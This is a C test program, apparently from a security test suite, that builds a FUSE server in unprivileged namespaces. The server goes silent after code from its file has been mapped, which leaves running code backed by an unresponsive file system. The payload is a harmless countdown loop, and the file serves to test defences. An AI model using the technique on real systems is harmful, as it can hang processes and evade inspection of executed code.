/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Executes code from a file of an overlay over a FUSE mount whose server does not answer.
 *
 *	withheld DIRECTORY open|read|statfs
 *	withheld DIRECTORY memory|lock COMMAND...
 *
 * The server answers everything until the code is mapped. Then it prints "ready", and no longer answers
 * requests of the kind that is named: to open the file, to read its first page, or about the file
 * system. The code is in the second page.
 *
 * The mounts need no privileges but a user namespace; root is only needed where /dev/fuse is for root
 * alone. In a user namespace a server is only asked about its file system by its own users, so for
 * "statfs" the mount is of the host, as where /etc/fuse.conf has user_allow_other. The code runs as the
 * user 65534.
 *
 * With "memory" and "lock" there is no overlay: COMMAND is executed as that user in DIRECTORY. With "memory"
 * the first page of fuse/code, which it may map, cannot be read. With "lock" fuse/code cannot be written,
 * and for those who open it to read only, nothing of it is kept: so it is written before it is mapped there.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <poll.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>

#include "attack.h"

enum {
	FILE_NODE = 2,
	REQUEST_BYTES = 1 << 17,
};

/* A function that counts down from its argument. */
static const unsigned char code[] = {
#if defined(__x86_64__)
    0xff, 0xcf, 0x75, 0xfc, 0xc3, /* dec edi; jne; ret */
#elif defined(__aarch64__)
    0x00, 0x04, 0x00, 0x71, 0xe1, 0xff, 0xff, 0x54, 0xc0, 0x03, 0x5f, 0xd6, /* subs; b.ne; ret */
#endif
};

static volatile sig_atomic_t withholding;

/* --- the server --- */

static void on_signal(int number)
{
	(void)number;
	withholding = 1;
}

static void answer(int fuse, const struct fuse_in_header *request, int error, const void *data, size_t length)
{
	unsigned char bytes[sizeof(struct fuse_out_header) + 2 * ATTACK_PAGE];
	const struct fuse_out_header header = {.len = (uint32_t)(sizeof(header) + length), .error = error, .unique = request->unique};

	memcpy(bytes, &header, sizeof(header));
	if (length)
		memcpy(bytes + sizeof(header), data, length);
	if (write(fuse, bytes, header.len) < 0 && errno != ENOENT)
		attack_fail("answer");
}

static struct fuse_attr attributes(uint64_t node)
{
	return node == FILE_NODE ? (struct fuse_attr){.ino = node, .size = 2 * ATTACK_PAGE, .blocks = 16, .mode = S_IFREG | 0777, .nlink = 1, .blksize = ATTACK_PAGE}
				 : (struct fuse_attr){.ino = node, .mode = S_IFDIR | 0755, .nlink = 2, .blksize = ATTACK_PAGE};
}

static int is_withheld(const char *kind, const struct fuse_in_header *request, const void *data)
{
	const struct fuse_read_in *read = data;

	if (!withholding)
		return 0;
	return (!strcmp(kind, "open") && request->opcode == FUSE_OPEN) || (!strcmp(kind, "statfs") && request->opcode == FUSE_STATFS) ||
	       (!strcmp(kind, "lock") && request->opcode == FUSE_WRITE) ||
	       ((!strcmp(kind, "read") || !strcmp(kind, "memory")) && request->opcode == FUSE_READ && read->offset < ATTACK_PAGE);
}

static void serve_read(int fuse, const struct fuse_in_header *request, const struct fuse_read_in *read)
{
	static unsigned char content[2 * ATTACK_PAGE];
	const size_t left = read->offset < sizeof(content) ? sizeof(content) - read->offset : 0;

	memcpy(content + ATTACK_PAGE, code, sizeof(code));
	answer(fuse, request, 0, content + (left ? read->offset : 0), read->size < left ? read->size : left);
}

static uint32_t open_flags(const char *kind, const struct fuse_open_in *request)
{
	return !strcmp(kind, "lock") && (request->flags & O_ACCMODE) == O_RDONLY ? FOPEN_DIRECT_IO : FOPEN_KEEP_CACHE;
}

static void serve_one(int fuse, const char *kind, const struct fuse_in_header *request, const void *data)
{
	const struct fuse_init_out init = {.major = FUSE_KERNEL_VERSION, .minor = 31, .max_readahead = 0, .max_write = ATTACK_PAGE, .time_gran = 1};
	const struct fuse_entry_out entry = {.nodeid = FILE_NODE, .entry_valid = 3600, .attr_valid = 3600, .attr = attributes(FILE_NODE)};
	const struct fuse_attr_out attr = {.attr_valid = 3600, .attr = attributes(request->nodeid)};
	const struct fuse_open_out opened = {.fh = 1, .open_flags = request->opcode == FUSE_OPEN ? open_flags(kind, data) : 0};
	const struct fuse_statfs_out statfs = {.st = {.bsize = ATTACK_PAGE, .frsize = ATTACK_PAGE, .namelen = 255}};

	switch (request->opcode) {
	case FUSE_INIT:
		return answer(fuse, request, 0, &init, sizeof(init));
	case FUSE_LOOKUP:
		return strcmp(data, "code") ? answer(fuse, request, -ENOENT, NULL, 0) : answer(fuse, request, 0, &entry, sizeof(entry));
	case FUSE_GETATTR:
		return answer(fuse, request, 0, &attr, sizeof(attr));
	case FUSE_OPEN:
	case FUSE_OPENDIR:
		return answer(fuse, request, 0, &opened, sizeof(opened));
	case FUSE_READ:
		return serve_read(fuse, request, data);
	case FUSE_STATFS:
		return answer(fuse, request, 0, &statfs, sizeof(statfs));
	case FUSE_READDIR:
	case FUSE_RELEASE:
	case FUSE_RELEASEDIR:
	case FUSE_FLUSH:
		return answer(fuse, request, 0, NULL, 0);
	case FUSE_FORGET:
	case FUSE_BATCH_FORGET:
	case FUSE_INTERRUPT:
		return;
	default:
		return answer(fuse, request, -ENOSYS, NULL, 0);
	}
}

/* It must not have a file of its own file system, or it would wait for itself at its end. It ends when the
 * other end of the pipe `outer` is closed: a process that waits for it does not end before, even if it is
 * killed, and so neither does the pid namespace. */
static pid_t start_server(int fuse, int outer, const char *kind)
{
	static unsigned char bytes[REQUEST_BYTES];
	struct pollfd wait[] = {{.fd = fuse, .events = POLLIN}, {.fd = outer, .events = POLLIN}};
	const pid_t server = fork();

	if (server)
		return server;
	attack_die_with_parent();
	signal(SIGUSR1, on_signal);
	for (;;) {
		if (poll(wait, 2, -1) > 0 && wait[1].revents)
			_exit(0);
		if (!wait[0].revents)
			continue;
		const ssize_t n = read(fuse, bytes, sizeof(bytes));

		if (n < 0 && errno == ENODEV)
			_exit(0);
		if (n < (ssize_t)sizeof(struct fuse_in_header))
			continue;
		const struct fuse_in_header *request = (const void *)bytes;
		if (!is_withheld(kind, request, request + 1))
			serve_one(fuse, kind, request, request + 1);
	}
}

/* --- the program --- */

static void write_map(pid_t pid, const char *name)
{
	char path[64];
	static const char map[] = "0 0 1\n65534 65534 1\n";

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, name);
	const int fd = open(path, O_WRONLY);
	if (fd < 0 || write(fd, map, strlen(map)) < 0)
		attack_fail(path);
	close(fd);
}

/* Continues in a child in namespaces of its own: of mounts, and perhaps of users. Returns the end of a pipe
 * whose other end only the parent has. */
static int enter_namespaces(int users)
{
	int there[2], mapped[2];
	char byte = 0;

	if (pipe(there) < 0 || pipe(mapped) < 0)
		attack_fail("pipe");
	const pid_t child = fork();
	if (child) {
		if (read(there[0], &byte, 1) != 1)
			exit(1);
		if (users) {
			write_map(child, "uid_map");
			write_map(child, "gid_map");
		}
		if (write(mapped[1], &byte, 1) != 1)
			exit(1);
		waitpid(child, NULL, 0);
		exit(1);
	}
	attack_die_with_parent();
	close(mapped[1]);
	if (unshare((users ? CLONE_NEWUSER : 0) | CLONE_NEWNS) < 0)
		attack_fail("unshare");
	if (write(there[1], &byte, 1) != 1 || read(mapped[0], &byte, 1) != 1)
		exit(1);
	if (setresgid(0, 0, 0) < 0 || setresuid(0, 0, 0) < 0)
		attack_fail("root of the namespace");
	attack_die_with_parent();
	return mapped[0];
}

int main(int argc, char **argv)
{
	char options[256];

	if (argc < 3 || chdir(argv[1]) < 0)
		attack_fail("directory");
	const int outer = enter_namespaces(!strcmp(argv[2], "open") || !strcmp(argv[2], "read"));
	/* The server ends with it too. A signal at the end of its parent, another user, would not reach it. */
	attack_contain();
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0 || mount("none", ".", "tmpfs", 0, NULL) < 0 || chdir(argv[1]) < 0 ||
	    mkdir("fuse", 0755) < 0 || mkdir("lower", 0755) < 0 || mkdir("merged", 0755) < 0)
		attack_fail("directories");
	const int fuse = open("/dev/fuse", O_RDWR);
	snprintf(options, sizeof(options), "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fuse);
	if (fuse < 0 || mount("withheld", "fuse", "fuse.withheld", MS_NOSUID | MS_NODEV, options) < 0)
		attack_fail("FUSE");
	const pid_t server = start_server(fuse, outer, argv[2]);
	close(fuse);
	if (argc > 3) {
		const int answered = open("fuse/code", O_RDONLY);

		if (answered < 0)
			attack_fail("fuse/code");
		close(answered);
		kill(server, SIGUSR1);
		attack_drop_privileges();
		execvp(argv[3], argv + 3);
		attack_fail(argv[3]);
	}
	if (mount("overlay", "merged", "overlay", MS_RDONLY, "lowerdir=fuse:lower") < 0)
		attack_fail("overlay");
	const int file = open("merged/code", O_RDONLY);
	void (*count)(unsigned int) = (void (*)(unsigned int))mmap(NULL, ATTACK_PAGE, PROT_READ | PROT_EXEC, MAP_PRIVATE, file, ATTACK_PAGE);
	if (file < 0 || (void *)count == MAP_FAILED)
		attack_fail("code");
	count(1);
	kill(server, SIGUSR1);
	attack_drop_privileges();
	attack_say_ready();
	for (;;)
		count(100000000);
}
